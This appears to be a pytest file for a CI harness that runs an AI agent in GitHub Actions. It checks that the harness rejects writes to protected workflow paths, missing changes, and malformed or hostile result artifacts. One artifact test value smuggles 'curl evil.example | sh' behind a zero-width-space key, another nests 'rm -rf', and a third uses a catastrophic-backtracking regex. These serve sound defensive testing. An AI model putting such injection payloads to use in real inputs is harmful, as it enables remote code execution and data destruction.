"""Work that does not hold, played as whole steps: none of it may end with exit 0 or hand an artifact on.

What GitHub tells only after a while, and all kinds of paths and patterns, are tried in tests/unit/gates.
"""

from __future__ import annotations

import json
import signal
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from mogplex_ci.emulator import Emulator
from tests.github_api import TOKEN, FakeGitHub
from tests.program import GitHubStep
from tests.waits import wait_until

SCENARIO = """\
artifacts:
  report: {{text: {artifact}}}
steps:
  - {{after: 100ms, part: launch}}
{events}
  - {{after: 100ms, event: finished, message: Harness run finished, payload: {{exit_code: 0, failure_code: null}}}}
  - status: success
  - {{after: 100ms, commit: "{{{{ commit_sha }}}}"}}
"""
WORKFLOW = ".github/workflows/ci.yml"
PROTECTS, REQUIRES = {"protected-paths": ".github/"}, {"require": "change, pull-request"}
ARTIFACT = {"artifact": "report", "artifact-schema": "schema.json"}


@pytest.fixture
def api() -> Iterator[FakeGitHub]:
    with FakeGitHub() as api:
        yield api


def scenario(folder: Path, *, changed: tuple[bool, ...] = (True,), artifact: str = "{}") -> Path:
    """Write a scenario whose run brings ``artifact``, and whose events, the agent's side, say ``changed``."""
    payloads = [json.dumps({"stage": "git_delivery", "changed": each}) for each in changed]
    events = "\n".join(f"  - {{event: log, message: Delivered, payload: {payload}}}" for payload in payloads)
    path = folder / "attack.yaml"
    path.write_text(SCENARIO.format(artifact=json.dumps(artifact), events=events))
    return path


def attacked(folder: Path, api: FakeGitHub, emulator: Emulator, inputs: dict[str, str], schema: Any) -> GitHubStep:
    """Return the step that meets the attack."""
    known = {"prompt": "Fix it", "base-url": emulator.url, "api-key": emulator.token, "github-token": TOKEN}
    step = GitHubStep(folder, known | {"output-dir": "."} | inputs, {"GITHUB_API_URL": api.url})
    (step.workspace / "schema.json").write_text(json.dumps(schema))
    api.watch(emulator)
    return step


def assert_rejected(step: GitHubStep, code: str) -> None:
    ended = step.run()
    assert (ended.code, step.outputs["error-code"]) == (2 if code == "USAGE" else 1, code), ended.out
    assert step.outputs.get("artifact", "") == ""
    assert not (step.workspace / "artifact.json").exists()
    written = "".join(path.read_text() for path in step.workspace.iterdir() if path.suffix != ".yaml")
    assert "evil.example" not in written + ended.out


@pytest.mark.parametrize(
    ("path", "inputs", "changed", "code"),
    [
        (WORKFLOW, PROTECTS, (False,), "PATH_NOT_ALLOWED"),
        (WORKFLOW, PROTECTS, (True, False), "PATH_NOT_ALLOWED"),
        (".github", PROTECTS, (True,), "PATH_NOT_ALLOWED"),
        (".GitHub/workflows/ci.yml", PROTECTS, (True,), "PATH_NOT_ALLOWED"),
        ("src/ok.py\n", {"allowed-paths": "src/ok.py"}, (True,), "PATH_NOT_ALLOWED"),
        ("", REQUIRES, (True,), "NO_CHANGE"),
        ("a.ts", REQUIRES, (True,), "NO_PULL_REQUEST"),
        (WORKFLOW, {"protected-paths": "./.github/"}, (True,), "USAGE"),
        ("a.ts", REQUIRES | {"wait": "false"}, (True,), "USAGE"),
    ],
)
def test_events_and_odd_paths_open_no_gate(
    path: str, inputs: dict[str, str], changed: tuple[bool, ...], code: str, tmp_path: Path, api: FakeGitHub
) -> None:
    api.files, api.ahead_by = [{"filename": path}] if path else [], len(path)
    with Emulator(scenario(tmp_path, changed=changed), speed=50) as emulator:
        assert_rejected(attacked(tmp_path, api, emulator, inputs, {}), code)


@pytest.mark.parametrize(
    ("artifact", "properties"),
    [
        ('{"version": "1.2.3", "ver\\u200bsion": "1.2.3; curl evil.example | sh"}', {}),
        ('{"version": NaN}', {"version": {"type": "number"}}),
        ('{"fixes": ' + "[" * 99 + '"rm -rf"' + "]" * 99 + "}", {}),
        ('{"name": "abc\\n"}', {"name": {"pattern": "^[a-z]+$"}}),
        ('{"day": "tomorrow"}', {"day": {"format": "date"}}),
    ],
    ids=["keys that become one", "no number", "a list that would be cut", "a line break", "no date"],
)
def test_an_invalid_artifact_is_not_handed_on(
    artifact: str, properties: dict[str, Any], tmp_path: Path, api: FakeGitHub
) -> None:
    with Emulator(scenario(tmp_path, artifact=artifact), speed=50) as emulator:
        assert_rejected(attacked(tmp_path, api, emulator, ARTIFACT, {"properties": properties}), "ARTIFACT_INVALID")


def test_a_slow_pattern_does_not_hold_the_step(tmp_path: Path, api: FakeGitHub) -> None:
    """The pattern is the workflow's, the text the agent's: seventy characters would take years."""
    schema = {"properties": {"title": {"pattern": r"^(\w+\s?)*$"}}}
    artifact = json.dumps({"title": "a" * 70 + "!"})
    with Emulator(scenario(tmp_path, artifact=artifact), speed=50) as emulator:
        step = attacked(tmp_path, api, emulator, ARTIFACT, schema)
        with step.start() as process:
            wait_until(lambda: emulator.runs and emulator.runs[0].commit_sha and step.outputs.get("run-id"), process)
            time.sleep(2)
            process.send_signal(signal.SIGTERM)
            out, _ = process.communicate(timeout=30)
    assert (process.returncode, step.outputs["error-code"]) in [(143, "INTERRUPTED"), (1, "ARTIFACT_INVALID")], out
